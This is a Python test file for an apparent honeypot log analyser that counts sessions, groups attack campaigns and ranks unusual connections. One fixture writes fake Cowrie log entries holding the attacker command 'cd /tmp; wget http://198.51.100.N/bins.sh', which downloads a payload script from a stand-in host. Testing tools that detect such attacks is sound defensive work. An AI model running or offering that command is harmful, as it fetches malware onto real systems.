"""What stands out, and who came, on the command line."""

import json
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess
from typing import TypeAlias

Command: TypeAlias = Callable[..., CompletedProcess[str]]


def test_sessions_are_counted_and_listed(honeyguide: Command, log: Path) -> None:
    honeyguide("ingest", log)
    assert honeyguide("sessions", "--count").stdout == "1\n"
    counted = json.loads(honeyguide("sessions", "--count", "--json").stdout)
    assert counted == {"sessions": 1, "outbound": 0, "described": {"dionaea.log": 1}, "orphans": {"dionaea.log": 1}}
    (session,) = map(json.loads, honeyguide("sessions", "source.ip: 198.51.100.7", "--json").stdout.splitlines())
    assert (session["source.ip"], session["source.port"], session["destination.port"]) == ("198.51.100.7", 50123, 80)
    assert session["outputs"] == {"dionaea.log": 2}
    assert honeyguide("sessions", "source.ip: 192.0.2.99", "--count").stdout == "0\n"
    (orphan,) = map(json.loads, honeyguide("sessions", "--orphans", "--json").stdout.splitlines())
    assert (orphan["id"], orphan["orphan"]) == (session["id"], "dionaea.log")


def test_findings_claim_no_baseline_where_there_is_none(honeyguide: Command, log: Path) -> None:
    honeyguide("ingest", log)
    answer = honeyguide("findings", "--json")
    assert answer.returncode == 0
    assert json.loads(answer.stdout) == {"schema": "honeyguide.findings/1", "baseline": False, "findings": []}
    assert "no history" in honeyguide("findings").stdout


def test_campaigns_of_two_honeypots_are_listed_once(honeyguide: Command, tmp_path: Path) -> None:
    lines = [
        json.dumps(
            {
                "eventid": "cowrie.command.input",
                "input": f"cd /tmp; wget http://198.51.100.{number}/bins.sh",
                "timestamp": f"2026-03-04T10:00:0{number}.000000Z",
                "src_ip": f"203.0.113.{number}",
                "session": f"abcdef12345{number}",
                "sensor": "s",
                "message": "CMD",
            }
        )
        for number in (1, 2, 3)
    ]
    file = tmp_path / "cowrie.json"
    file.write_text("\n".join(lines) + "\n", "utf-8")
    honeyguide("ingest", file)
    (campaign,) = map(json.loads, honeyguide("campaigns", "--json").stdout.splitlines())
    assert campaign["addresses"] == ["203.0.113.1", "203.0.113.2", "203.0.113.3"]
    assert campaign["features"][0]["value"] == "cd /tmp; wget http://<address>/bins.sh"
    answer = honeyguide("campaigns")
    assert answer.stdout.startswith(f"{campaign['id']}  3 addresses on cowrie")
    assert answer.stderr == ""


def test_no_session_is_novel_without_a_history(honeyguide: Command, log: Path) -> None:
    honeyguide("ingest", log)
    answer = honeyguide("sessions", "--novel")
    assert (answer.returncode, answer.stdout) == (0, "")
    assert "no history" in answer.stderr


def test_the_most_unusual_session_comes_first(honeyguide: Command, tmp_path: Path) -> None:
    def line(moment: str, port: int, source_port: int) -> str:
        connection = {"protocol": "smbd", "transport": "tcp", "type": "accept"}
        return json.dumps(
            {"connection": connection, "dst_ip": "192.0.2.1", "dst_port": port, "src_hostname": "", "src_ip": "203.0.113.7"}
            | {"src_port": source_port, "timestamp": moment}
        )

    past = [line(f"2026-03-0{1 + hour // 24}T{hour % 24:02}:00:00.000001", 445, 40000 + hour) for hour in range(72)]
    recent = [line("2026-03-05T00:10:00.000001", 445, 41000), line("2026-03-05T00:20:00.000001", 27017, 41001)]
    file = tmp_path / "dionaea.json"
    file.write_text("\n".join([*past, *recent]) + "\n", "utf-8")
    honeyguide("ingest", file)
    told = honeyguide("sessions", "--novel", "--since", "2026-03-05", "--json")
    first, second = map(json.loads, told.stdout.splitlines())
    assert (first["destination.port"], second["destination.port"]) == (27017, 445)
    assert first["novelty"]["traits"][0]["field"] == "destination.port"
    assert first["novelty"]["bits"] > second["novelty"]["bits"]
